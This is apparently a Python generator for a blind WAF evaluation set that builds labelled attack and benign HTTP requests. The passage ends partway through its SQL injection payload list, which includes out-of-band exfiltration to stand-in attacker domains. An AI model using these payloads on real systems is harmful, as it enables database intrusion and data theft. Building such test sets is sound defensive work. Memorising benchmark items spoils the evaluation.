#!/usr/bin/env python3
# ruff: noqa
"""Generate the blind WAF evaluation set "v17" (waf_unseen_eighth.jsonl).

Provenance
----------
Written blind on 2026-12-07 by a helper session that read none of the WAF's
rules, tests, docs, benchmarks or corpora.  Every payload was written by hand
from general knowledge of the attack technique (not copied from public payload
lists) and every benign request from general knowledge of ordinary API traffic.
Source tag: "v17".  All randomness comes from random.Random(808080); two runs
produce byte-identical output.

Usage: python3 tests/data/make_waf_unseen_eighth.py
Writes waf_unseen_eighth.jsonl next to this script and prints a summary.

Row conventions (one JSON object per line, keys in exactly this order)
----------------------------------------------------------------------
id         "v17-a-<category>-NNNN" for attacks, "v17-b-<category>-NNNN" for
           benign rows, numbered per category from 0001.
label      "attack" or "benign".
category   attacks: code_injection php_injection java_injection sqli rfi ssrf
           cmdi ssti crlf mail_injection ldapi xss path_traversal nosqli xxe
           log4shell (45 rows each); benign: benign_api_json benign_filters
           benign_templates benign_code benign_markdown benign_richtext
           benign_prose benign_search benign_urls benign_files benign_base64
           benign_jwt benign_headers benign_logs benign_commerce (80 rows each).
method     GET / POST / PUT / PATCH / DELETE.
path       raw request path as sent on the wire (percent-encoded), starts "/".
query      raw query string without "?" ("" if none).
headers    JSON object; always Host, User-Agent, Accept, plus Content-Type
           whenever there is a body.  Values are printable ASCII only (no raw
           CR/LF).  Host names are made-up company names.
body       raw body string ("" if none): JSON, urlencoded form,
           multipart/form-data (CRLF framing, boundary in Content-Type), XML,
           or text/plain.
placement  query, query_key, path, json, json_key, form, header, cookie,
           multipart or xml: where the interesting value sits.
payload    that value as the application receives it after the intended
           transport decoding: URL-decoding for query / query_key / path / form
           / cookie, JSON string unescaping, XML entity decoding.  Header values
           and multipart part values are taken as sent (not decoded).  When the
           value is a JSON object or array (NoSQL operator objects, whole API
           bodies) the payload is its compact JSON text.  Inherently encoded
           evasions (double percent-encoding, overlong UTF-8, IIS %u, the
           php-cgi soft-hyphen) are put on the wire verbatim and the payload
           keeps exactly the same literal text (no decoding applied).  Where
           the application itself base64-decodes a field (serialized cookies,
           pickles) the payload is the base64 text as received; the decoded
           content is visible in this script next to the item.
hard       true for attacks that use an evasion (encoding, comments, case,
           whitespace substitutes, concatenation, entity / unicode escapes,
           globbing, ...) and for benign rows deliberately prone to false
           positives.
source     "v17".

About 40 % of each attack category are terse fragments (payload alone as a
parameter value, as a scanner or regression test would send it); the rest
are realistic requests to plausible API endpoints.
"""

import base64
import json
import os
import re
import string
import struct
import sys
import zlib
import hashlib
import random
from urllib.parse import quote, quote_plus, unquote, unquote_plus, parse_qsl

SEED = 808080
SOURCE = "v17"
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_eighth.jsonl")

PLACEMENTS = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"]
URLISH = ("query", "query_key", "path", "form", "cookie")

# ---------------------------------------------------------------------------
# small helpers
# ---------------------------------------------------------------------------


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64u(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode("ascii")


def b64utf16(s):
    return base64.b64encode(s.encode("utf-16-le")).decode("ascii")


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(n, chars=string.ascii_letters + string.digits):
    return "".join(R.choice(chars) for _ in range(n))


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def iso_ts():
    # a moment in Nov/Dec 2026
    day = R.randint(1, 30)
    month = R.choice([11, 11, 12])
    if month == 12:
        day = R.randint(1, 6)
    return "2026-%02d-%02dT%02d:%02d:%02d%s" % (
        month,
        day,
        R.randint(0, 23),
        R.randint(0, 59),
        R.randint(0, 59),
        R.choice(["Z", ".%03dZ" % R.randint(0, 999), "+01:00", "-05:00"]),
    )


def epoch():
    return 1796000000 + R.randint(0, 600000)


def jcompact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode("utf-8")), s)


def php_obj(cls, props):
    body = "".join(php_s(k) + v for k, v in props)
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), body)


# ---------------------------------------------------------------------------
# hosts, user agents, headers
# ---------------------------------------------------------------------------

COMPANIES = [
    ("brightkettle.com", ["api", "shop", "app", "checkout"]),
    ("northwindlabs.io", ["api", "app", "console"]),
    ("harborline-insurance.com", ["portal", "api", "claims"]),
    ("quillandfern.co", ["api", "www", "studio"]),
    ("tallgrass.cloud", ["billing", "api", "status"]),
    ("meridianoutfitters.com", ["www", "api", "m"]),
    ("corvid-systems.net", ["hr", "api", "sso"]),
    ("lumenpay.io", ["api", "dashboard", "hooks"]),
    ("stackforge.dev", ["docs", "api", "paste"]),
    ("pinecrest-health.org", ["support", "patient", "api"]),
    ("orbitcrm.io", ["app", "api", "files"]),
    ("kestrelfreight.com", ["api", "track", "partners"]),
    ("bluewillow-media.com", ["cms", "api", "assets"]),
    ("ashford-legal.com", ["intranet", "docs", "api"]),
    ("halcyonbank.com", ["online", "api", "mobile-api"]),
    ("greyfinch.ai", ["api", "app", "ingest"]),
    ("copperlane.store", ["www", "api", "admin"]),
    ("vantagegrid.energy", ["portal", "api"]),
    ("saltmarsh.travel", ["www", "api", "booking"]),
    ("oakridge-univ.edu", ["lms", "api", "library"]),
]


def pick_host():
    d, subs = R.choice(COMPANIES)
    return "%s.%s" % (R.choice(subs), d)


def base_domain(host):
    return ".".join(host.split(".")[-2:])


ATK_DOMAINS = [
    "qz81.callback-probe.net",
    "exfil.darkrelay.io",
    "mal-cdn.top",
    "payloads.redteam-lab.xyz",
    "tk4.hookbin-sink.org",
    "static.cdn-jsdelivr-mirror.com",
    "updates.msft-sync.net",
    "x9c.oob-listener.com",
    "drop.bitbucket-raw.cc",
    "r.lhr-relay.info",
]
ATK_IPS = ["203.0.113.45", "198.51.100.77", "192.0.2.200", "203.0.113.9", "198.51.100.131"]


def fill(v, target=None):
    """Replace placeholders: §A attacker domain, §IP attacker ip, §T target domain."""
    if isinstance(v, str):
        if "§" not in v:
            return v
        a = R.choice(ATK_DOMAINS)
        ip = R.choice(ATK_IPS)
        t = target or base_domain(pick_host())
        return v.replace("§A", a).replace("§IP", ip).replace("§T", t)
    if isinstance(v, dict):
        return {fill(k, target): fill(x, target) for k, x in v.items()}
    if isinstance(v, list):
        return [fill(x, target) for x in v]
    return v


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:132.0) Gecko/20100101 Firefox/132.0",
]
CLIENT_UAS = [
    "okhttp/4.12.0",
    "axios/1.7.7",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "Dart/3.5 (dart:io)",
    "PostmanRuntime/7.42.0",
    "curl/8.9.1",
    "Apache-HttpClient/5.3.1 (Java/21.0.4)",
    "BrightKettle/5.12.0 (iPhone; iOS 18.1; Scale/3.00)",
    "Faraday v2.12.0",
    "node-fetch",
    "undici",
    "Ktor client",
    "RestSharp/112.1.0.0",
]
TERSE_UAS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Wget/1.21.4",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "python-httpx/0.27.2",
    "Java/17.0.12",
    "Mozilla/5.0",
]
ACCEPT_JSON = [
    "application/json",
    "application/json, text/plain, */*",
    "*/*",
    "application/json;q=0.9, */*;q=0.8",
    "application/vnd.api+json",
]
ACCEPT_HTML = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
]
LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9,en;q=0.7",
    "ja-JP,ja;q=0.9,en-US;q=0.7",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "en-GB,en;q=0.8",
    "es-ES,es;q=0.9",
    "nl-NL,nl;q=0.9,en;q=0.6",
    "pl-PL,pl;q=0.9,en;q=0.5",
]
SCOPES = [
    "openid profile email",
    "read:orders write:orders",
    "api.read",
    "tickets:read tickets:write",
    "billing:read",
    "files.readwrite offline_access",
]
FIRST = ["maria", "jdoe", "a.khan", "li.wei", "sofia", "tom", "priya", "olek", "yuki", "amara"]


def make_jwt(host=None, claims=None, alg=None, kid=None):
    host = host or pick_host()
    alg = alg or R.choice(["RS256", "RS256", "ES256", "HS256", "PS256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = kid or R.choice([hexs(16), "2026-11-rsa", alnum(27, string.ascii_letters + string.digits + "-_")])
    now = epoch()
    pl = {
        "iss": "https://auth.%s/" % base_domain(host),
        "sub": R.choice(["usr_", "auth0|", "", "u-"]) + alnum(18),
        "aud": R.choice(["https://%s" % host, "api", alnum(24)]),
        "iat": now,
        "exp": now + R.choice([300, 900, 3600, 86400]),
        "scope": R.choice(SCOPES),
    }
    if claims:
        pl.update(claims)
    sig = {"RS256": 256, "PS256": 256, "ES256": 64, "HS256": 32, "RS512": 512, "ES384": 96}[alg]
    return "%s.%s.%s" % (
        b64u(json.dumps(hdr, separators=(",", ":"))),
        b64u(json.dumps(pl, separators=(",", ":"), ensure_ascii=False)),
        b64u(rbytes(sig)),
    )


def rand_cookie():
    c = [
        ("sid", alnum(32)),
        ("csrftoken", alnum(32)),
        ("_ga", "GA1.2.%d.%d" % (R.randint(10**8, 10**9), epoch())),
        ("locale", R.choice(["en", "de", "fr", "ja"])),
        ("theme", R.choice(["dark", "light"])),
    ]
    R.shuffle(c)
    return "; ".join("%s=%s" % kv for kv in c[: R.randint(1, 3)])


def make_headers(host, terse=False, accept=None, ctype=None, extra=None, cookie=None):
    h = {"Host": host}
    if terse:
        h["User-Agent"] = R.choice(TERSE_UAS)
        h["Accept"] = accept or R.choice(["*/*", "*/*", "application/json", "text/html,*/*;q=0.8"])
    else:
        h["User-Agent"] = R.choice(BROWSER_UAS + CLIENT_UAS)
        h["Accept"] = accept or R.choice(ACCEPT_JSON + ACCEPT_JSON + ACCEPT_HTML)
        if R.random() < 0.4:
            h["Accept-Language"] = R.choice(LANGS)
        if R.random() < 0.45:
            if R.random() < 0.85:
                h["Authorization"] = "Bearer " + make_jwt(host)
            else:
                h["Authorization"] = "Basic " + b64(
                    "%s:%s" % (R.choice(["svc-reporting", "integration", "ci-bot", "partner-7731"]), alnum(20))
                )
        if cookie is None and R.random() < 0.3:
            cookie = rand_cookie()
        if R.random() < 0.3:
            origin = "https://" + R.choice(["app", "www", "dashboard", "admin"]) + "." + base_domain(host)
            h["Origin"] = origin
            if R.random() < 0.7:
                h["Referer"] = origin + R.choice(
                    ["/", "/dashboard", "/orders/%d" % R.randint(1000, 99999), "/settings/profile", "/search"]
                )
        if R.random() < 0.35:
            h["X-Request-ID"] = uuid4()
    if cookie:
        h["Cookie"] = cookie
    if ctype:
        h["Content-Type"] = ctype
    for k, v in (extra or {}).items():
        h[k] = v
    return h


# ---------------------------------------------------------------------------
# encoders
# ---------------------------------------------------------------------------

UNRESERVED = set(string.ascii_letters + string.digits + "-._~")


def rcase(t):
    return t if R.random() < 0.5 else t.lower()


def pct_all(s):
    return "".join(rcase("%%%02X" % b) for b in s.encode("utf-8"))


def pct_mixed(s):
    out = []
    letters = [i for i, ch in enumerate(s) if ch.isalnum() and ch.isascii()]
    force = set(R.sample(letters, min(len(letters), max(1, len(letters) // 4)))) if letters else set()
    for i, ch in enumerate(s):
        if ch in UNRESERVED and i not in force and R.random() < 0.7:
            out.append(ch)
        else:
            out.append("".join(rcase("%%%02X" % b) for b in ch.encode("utf-8")))
    return "".join(out)


def enc_url(s, enc, style="rfc"):
    if enc == "raw":
        return s
    if enc == "full":
        return pct_all(s)
    if enc == "mixed":
        return pct_mixed(s)
    if style == "plus":
        return quote_plus(s, safe="")
    if style == "uric":
        return quote(s, safe="!'()*~")
    return quote(s, safe="")


def enc_key(s, enc, style="rfc"):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc, style)
    if style == "plus":
        return quote_plus(s, safe="[]")
    return quote(s, safe="[]")


PATH_SAFE = "!$'()*+,;=:@~"


def enc_path(s, enc):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc)
    if enc == "slash":
        return quote(s, safe="/" + PATH_SAFE)
    return quote(s, safe=PATH_SAFE)


COOKIE_SAFE = "!#$&'()*+/:<=>?@[]^`{|}~"


def enc_cookie(s, enc):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc)
    return quote(s, safe=COOKIE_SAFE)


class PV(str):
    """Marks the payload string inside a JSON document."""


class PO(object):
    """Marks a payload that is a JSON object/array."""

    def __init__(self, v):
        self.v = v


UESC_TRIG = set("<>'\"()$/{}:;=|&`\\[]%#.@")


def jstr(s, mode):
    if mode == "plain":
        return json.dumps(s, ensure_ascii=False)
    if mode == "ascii":
        return json.dumps(s, ensure_ascii=True)
    out = ['"']
    for ch in s:
        o = ord(ch)
        if (ch in UESC_TRIG and R.random() < 0.8) or (ch.isascii() and ch.isalpha() and R.random() < 0.3):
            out.append(("\\u%04x" if R.random() < 0.5 else "\\u%04X") % o)
        elif o > 0xFFFF:
            out.append(json.dumps(ch)[1:-1])
        else:
            out.append(json.dumps(ch, ensure_ascii=False)[1:-1])
    out.append('"')
    return "".join(out)


def jenc(x, mode, pmode, seps):
    if isinstance(x, PO):
        return jenc(x.v, pmode, pmode, seps)
    if isinstance(x, PV):
        return jstr(str(x), pmode)
    if isinstance(x, str):
        return jstr(x, mode)
    if x is None or isinstance(x, (bool, int, float)):
        return json.dumps(x)
    if isinstance(x, dict):
        parts = []
        for k, v in x.items():
            kk = jstr(str(k), pmode if isinstance(k, PV) else mode)
            parts.append(kk + seps[1] + jenc(v, mode, pmode, seps))
        return "{" + seps[0].join(parts) + "}"
    if isinstance(x, (list, tuple)):
        return "[" + seps[0].join(jenc(v, mode, pmode, seps) for v in x) + "]"
    raise TypeError(type(x))


def xml_text(s, enc):
    if enc == "cdata" and "]]>" not in s and "\r" not in s:
        return "<![CDATA[" + s + "]]>"
    out = []
    for ch in s:
        if ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;" if enc != "charref" or R.random() < 0.5 else "&#60;")
        elif ch == ">":
            out.append("&gt;")
        elif ch == "\r":
            out.append("&#13;")
        elif (
            enc == "charref"
            and ch != "\n"
            and ((ch in UESC_TRIG and ch not in "<&") or (ch.isascii() and ch.isalpha() and R.random() < 0.3))
        ):
            out.append("&#x%x;" % ord(ch) if R.random() < 0.5 else "&#%d;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def xml_ok_chars(s):
    for ch in s:
        o = ord(ch)
        if o < 0x20 and ch not in "\t\n\r":
            return False
        if 0xFFFE <= o <= 0xFFFF or 0xD800 <= o <= 0xDFFF:
            return False
    return True


def header_ok(s):
    return bool(s) and all(0x20 <= ord(c) < 0x7F for c in s) and s == s.strip()


def boundary():
    st = R.choice(["webkit", "webkit", "gecko", "curl", "py", "okhttp"])
    if st == "webkit":
        return "----WebKitFormBoundary" + alnum(16)
    if st == "gecko":
        return "----geckoformboundary" + hexs(32)
    if st == "curl":
        return "------------------------" + hexs(16)
    if st == "py":
        return hexs(32)
    return uuid4()


def mp_body(parts, b):
    out = []
    for p in parts:
        if p[0] == "field":
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, p[1], p[2]))
        else:
            _, name, fn, ct, content = p
            out.append(
                '--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                % (b, name, fn, ct, content)
            )
    out.append("--%s--\r\n" % b)
    return "".join(out)


def singular(word):
    w = re.sub(r"[^a-z]", "", word.lower()) or "item"
    if w.endswith("ies"):
        return w[:-3] + "y"
    if w.endswith("ses"):
        return w[:-2]
    if w.endswith("s") and not w.endswith("ss"):
        return w[:-1]
    return w


def root_from_path(path):
    segs = [s for s in path.split("/") if s and not s.startswith("{") and not re.match(r"^v\d+$", s) and s != "api"]
    return singular(segs[-1]) if segs else "request"


# ---------------------------------------------------------------------------
# the request builder
# ---------------------------------------------------------------------------


def build(pl, value, ctx, terse=False, enc="std", host=None):
    """Return (method, path, query, headers, body, payload)."""
    host = host or ctx.get("host") or pick_host()
    is_obj = not isinstance(value, str)
    pstr = jcompact(value) if is_obj else value
    style = R.choice(["plus", "uric", "rfc"])
    field = ctx["field"]
    path = ctx["path"]
    q = list(ctx.get("q", {}).items())
    b = list(ctx.get("b", {}).items())
    method = None
    query = ""
    body = ""
    ctype = None
    extra = {}
    cookie = None
    accept = ctx.get("accept")

    def qstring(pairs, pay_idx=None, key_mode=False):
        parts = []
        for i, (k, v) in enumerate(pairs):
            if i == pay_idx:
                if key_mode:
                    kk = enc_key(k, enc, style)
                    parts.append(kk if ctx.get("noval") else kk + "=" + enc_url(v, "std", style))
                else:
                    parts.append(enc_key(k, "std", style) + "=" + enc_url(v, enc, style))
            else:
                parts.append(enc_key(k, "std", style) + "=" + enc_url(v, "std", style))
        return "&".join(parts)

    if pl == "query":
        method = ctx.get("qmethod") or "GET"
        pos = R.randint(0, len(q))
        q.insert(pos, (field, pstr))
        query = qstring(q, pos)
    elif pl == "query_key":
        method = ctx.get("qmethod") or "GET"
        key = (ctx.get("qk") or "{}").replace("{}", pstr)
        pos = R.randint(0, len(q))
        q.insert(pos, (key, ctx.get("qk_val", "1")))
        query = qstring(q, pos, key_mode=True)
        pstr = key
    elif pl == "path":
        method = ctx.get("pmethod") or "GET"
        tpl = ctx.get("ptpl") or (path.rstrip("/") + "/{}")
        penc = enc if enc != "std" else ctx.get("penc", "std")
        path = tpl.replace("{}", enc_path(pstr, penc))
        if q and R.random() < 0.5:
            query = qstring(q)
    elif pl in ("json", "json_key"):
        method = ctx.get("method") or R.choice(["POST", "POST", "POST", "PUT", "PATCH"])
        if ctx.get("whole") and is_obj:
            obj = PO(value)
        else:
            obj = dict(b)
            if pl == "json":
                obj[field] = PO(value) if is_obj else PV(pstr)
            else:
                inner = {PV(pstr): ctx.get("jk_val", R.choice([1, True, "asc", "x"]))}
                jk = ctx.get("jk")
                if jk:
                    obj[jk] = inner
                else:
                    obj = dict(inner, **{k: v for k, v in obj.items()})
            for w in reversed(ctx.get("jwrap", [])):
                obj = {w: obj} if not isinstance(w, tuple) else dict([w[1]], **{w[0]: obj})
        jmode = enc if enc in ("uesc",) else R.choice(["plain", "plain", "ascii"]) if enc == "std" else enc
        if jmode not in ("plain", "ascii", "uesc"):
            jmode = "plain"
        bodymode = "plain" if jmode == "uesc" else jmode
        seps = R.choice([(",", ":"), (", ", ": ")])
        body = jenc(obj, bodymode, jmode, seps)
        ctype = ctx.get("ctype") or R.choice(
            ["application/json", "application/json", "application/json; charset=utf-8"]
        )
    elif pl == "form":
        method = ctx.get("method") or R.choice(["POST", "POST", "POST", "PUT"])
        pos = R.randint(0, len(b))
        b.insert(pos, (field, pstr))
        parts = []
        for i, (k, v) in enumerate(b):
            v = v if isinstance(v, str) else jcompact(v)
            if i == pos:
                parts.append(quote_plus(k) + "=" + enc_url(v, enc, "plus"))
            else:
                parts.append(quote_plus(k) + "=" + quote_plus(v, safe=""))
        body = "&".join(parts)
        ctype = R.choice(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif pl == "multipart":
        method = ctx.get("method") or R.choice(["POST", "POST", "PUT"])
        bd = boundary()
        while bd in pstr:
            bd = boundary()
        parts = [("field", k, v if isinstance(v, str) else jcompact(v)) for k, v in b]
        mode = ctx.get("mpmode", "field")
        if mode == "filename":
            parts.append(
                (
                    "file",
                    ctx.get("mpname", "file"),
                    pstr,
                    ctx.get("mpct", "application/octet-stream"),
                    ctx.get("mpcontent", ""),
                )
            )
        elif mode == "content":
            parts.append(
                ("file", ctx.get("mpname", "file"), ctx.get("mpfn", "upload.txt"), ctx.get("mpct", "text/plain"), pstr)
            )
        else:
            pos = R.randint(0, len(parts))
            parts.insert(pos, ("field", field, pstr))
            if ctx.get("mpfile") and R.random() < 0.6:
                parts.append(("file",) + tuple(ctx["mpfile"]))
        body = mp_body(parts, bd)
        ctype = "multipart/form-data; boundary=" + bd
    elif pl == "xml":
        method = ctx.get("method") or R.choice(["POST", "POST", "PUT"])
        if ctx.get("doc"):
            body = pstr
        else:
            root = ctx.get("root") or root_from_path(path)
            inner = "".join(
                "<%s>%s</%s>" % (k, xml_text(v if isinstance(v, str) else jcompact(v), "esc"), k) for k, v in b
            )
            el = "<%s>%s</%s>" % (field, xml_text(pstr, enc if enc in ("esc", "cdata", "charref") else "esc"), field)
            tpl = ctx.get("xmltpl")
            if tpl:
                body = tpl.replace("{others}", inner).replace("{el}", el)
            else:
                decl = R.choice(['<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0"?>', ""])
                if R.random() < 0.5:
                    items = [inner, el] if R.random() < 0.6 else [el, inner]
                else:
                    items = [inner, el]
                body = decl + "<%s>%s</%s>" % (root, "".join(items), root)
        ctype = ctx.get("xctype") or R.choice(
            ["application/xml", "application/xml; charset=utf-8", "text/xml; charset=UTF-8"]
        )
    elif pl == "header":
        method = ctx.get("qmethod") or "GET"
        extra[ctx.get("hdr", "X-Test")] = pstr
        if q and R.random() < 0.6:
            query = qstring(q)
    elif pl == "cookie":
        method = ctx.get("qmethod") or "GET"
        others = []
        if not terse and R.random() < 0.6:
            others = [("sid", alnum(26)), ("_ga", "GA1.1.%d.%d" % (R.randint(10**8, 10**9), epoch()))][
                : R.randint(1, 2)
            ]
        ck = [(ctx.get("ck", "id"), enc_cookie(pstr, enc))]
        allc = others + ck
        if len(allc) > 1 and R.random() < 0.5:
            allc = ck + others
        cookie = "; ".join("%s=%s" % kv for kv in allc)
        if q and R.random() < 0.6:
            query = qstring(q)
    else:
        raise ValueError(pl)

    if ctx.get("qbody") and pl in ("query", "query_key") and not body:
        method = "POST"
        body = ctx["qbody"]
        ctype = "text/plain"
    headers = make_headers(host, terse=terse, accept=accept, ctype=ctype, extra=extra, cookie=cookie)
    return method, path, query, headers, body, pstr


# ---------------------------------------------------------------------------
# validation of every row
# ---------------------------------------------------------------------------

BAD_PCT = re.compile(r"%(?![0-9A-Fa-f]{2})")


class RowError(Exception):
    pass


def find_json(x, target, as_key):
    if isinstance(x, dict):
        for k, v in x.items():
            if as_key and k == target:
                return True
            if find_json(v, target, as_key):
                return True
        return False
    if isinstance(x, list):
        return any(find_json(v, target, as_key) for v in x)
    if isinstance(x, str):
        return (not as_key) and x == target
    return False


def find_json_obj(x, target):
    if jcompact(x) == target:
        return True
    if isinstance(x, dict):
        return any(find_json_obj(v, target) for v in x.values())
    if isinstance(x, list):
        return any(find_json_obj(v, target) for v in x)
    return False


def check_xml_wellformed(text):
    import xml.parsers.expat as expat

    p = expat.ParserCreate()
    p.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_NEVER)
    p.ExternalEntityRefHandler = lambda *a: 1
    try:
        p.Parse(text.encode("utf-8") if isinstance(text, str) else text, True)
    except expat.ExpatError as e:
        msg = str(e)
        if "amplification" in msg or "recursive" in msg:
            return
        raise RowError("xml not well-formed: %s" % msg)


def validate(row, raw=False, novalidate_xml=False, doc=False):
    pl = row["placement"]
    pay = row["payload"]
    h = row["headers"]
    keys = list(h.keys())
    if keys[:3] != ["Host", "User-Agent", "Accept"]:
        raise RowError("header order %r" % keys[:3])
    for k, v in h.items():
        if not header_ok(v) or not re.match(r"^[A-Za-z0-9!#$%&'*+.^_`|~-]+$", k):
            raise RowError("bad header %r: %r" % (k, v))
    if row["body"]:
        if "Content-Type" not in h:
            raise RowError("body without content-type")
    elif "Content-Type" in h:
        raise RowError("content-type without body")
    if not row["path"].startswith("/"):
        raise RowError("path")
    if row["method"] not in ("GET", "POST", "PUT", "PATCH", "DELETE"):
        raise RowError("method")
    if row["method"] == "GET" and row["body"]:
        raise RowError("GET with body")
    if not raw:
        for part in (row["path"], row["query"]):
            if BAD_PCT.search(part):
                raise RowError("bad percent in %r" % part)
        for part in (row["path"], row["query"]):
            if any(ord(c) > 0x7E or ord(c) <= 0x20 for c in part):
                raise RowError("unencoded char in url %r" % part)
    ct = h.get("Content-Type", "")
    body = row["body"]
    if ct.startswith("application/json") or ct.startswith("application/vnd.api+json"):
        obj = json.loads(body)
    if ct.startswith("application/x-www-form-urlencoded") and not raw:
        if BAD_PCT.search(body) or any(ord(c) > 0x7E or ord(c) <= 0x20 for c in body):
            raise RowError("bad form body")
    if ct.startswith("multipart/form-data"):
        bd = ct.split("boundary=", 1)[1]
        if not body.startswith("--" + bd + "\r\n") or not body.endswith("--" + bd + "--\r\n"):
            raise RowError("multipart framing")
        segs = body.split("--" + bd)
        for seg in segs[1:-1]:
            if (
                not seg.startswith('\r\nContent-Disposition: form-data; name="')
                or "\r\n\r\n" not in seg
                or not seg.endswith("\r\n")
            ):
                raise RowError("multipart part framing")
    if "xml" in ct and not novalidate_xml:
        check_xml_wellformed(body)

    # the payload must be recoverable from its placement
    if pl == "query":
        if raw:
            ok = pay in row["query"]
        else:
            ok = pay in [v for k, v in parse_qsl(row["query"], keep_blank_values=True)]
    elif pl == "query_key":
        if raw:
            ok = pay in row["query"]
        else:
            ok = pay in [k for k, v in parse_qsl(row["query"], keep_blank_values=True)]
    elif pl == "path":
        ok = (pay in row["path"]) if raw else (pay in unquote(row["path"]))
    elif pl == "form":
        if raw:
            ok = pay in body
        else:
            ok = pay in [v for k, v in parse_qsl(body, keep_blank_values=True)]
    elif pl == "cookie":
        vals = [
            unquote(c.split("=", 1)[1]) if not raw else c.split("=", 1)[1]
            for c in h.get("Cookie", "").split("; ")
            if "=" in c
        ]
        ok = pay in vals
    elif pl == "header":
        ok = pay in h.values()
    elif pl in ("json", "json_key"):
        obj = json.loads(body)
        ok = find_json(obj, pay, pl == "json_key") or (pl == "json" and find_json_obj(obj, pay))
    elif pl == "multipart":
        ok = pay in body
    elif pl == "xml":
        if doc:
            ok = body == pay
        else:
            import xml.etree.ElementTree as ET

            root = ET.fromstring(body.encode("utf-8"))
            ok = any((el.text or "") == pay for el in root.iter())
    else:
        ok = False
    if not ok:
        raise RowError("payload not found in %s" % pl)


# ---------------------------------------------------------------------------
# attack items
# ---------------------------------------------------------------------------

class Item(object):
    def __init__(self, v, hard=False, raw=False, only=None, no=None, mp=None,
                 doc=False, noval=False, qkval=None, qbody=None, novalidate=False,
                 jkval=None):
        self.v = v
        self.hard = hard or raw
        self.raw = raw
        self.only = set(only) if only else None
        self.no = set(no) if no else set()
        self.mp = mp            # (mode, filename, content-type) for multipart
        self.doc = doc          # full XML document -> whole body in xml placement
        self.noval = noval      # query_key without "=value"
        self.qkval = qkval      # value used next to a query_key payload
        self.qbody = qbody      # text/plain body sent with query / query_key
        self.novalidate = novalidate
        self.jkval = jkval

    def s(self):
        return self.v if isinstance(self.v, str) else jcompact(self.v)


def A(v, **kw):
    return Item(v, **kw)


def H(v, **kw):
    kw["hard"] = True
    return Item(v, **kw)


def RAW(v, **kw):
    kw["raw"] = True
    return Item(v, **kw)


HDR_ONLY = {"header"}

# ---- SQL injection (MySQL, PostgreSQL, MSSQL, Oracle, SQLite) -------------
SQLI = [
    A("' OR '1'='1"),
    A("1 OR 1=1"),
    A("' OR 1=1-- -"),
    A("admin'-- -"),
    A("1' AND SLEEP(5)-- -"),
    A("1) UNION SELECT username,password FROM users-- -"),
    A("' UNION SELECT NULL,NULL,@@version#"),
    A("1;WAITFOR DELAY '0:0:5'--"),
    A("1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    A("1 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))"),
    A("1 AND updatexml(1,concat(0x7e,database(),0x7e),1)"),
    A("'||pg_sleep(5)--"),
    A("1;SELECT pg_sleep(5)--"),
    A("1' AND 1=CAST((SELECT version()) AS int)--"),
    A("1 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    A("' AND 1=UTL_INADDR.get_host_address((SELECT user FROM dual)||'.§A')--"),
    A("' UNION SELECT banner,NULL FROM v$version--"),
    A("'||DBMS_PIPE.RECEIVE_MESSAGE('x',5)||'"),
    A("' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://§A/o\">%p;]>'),'/l') FROM dual) IS NOT NULL--"),
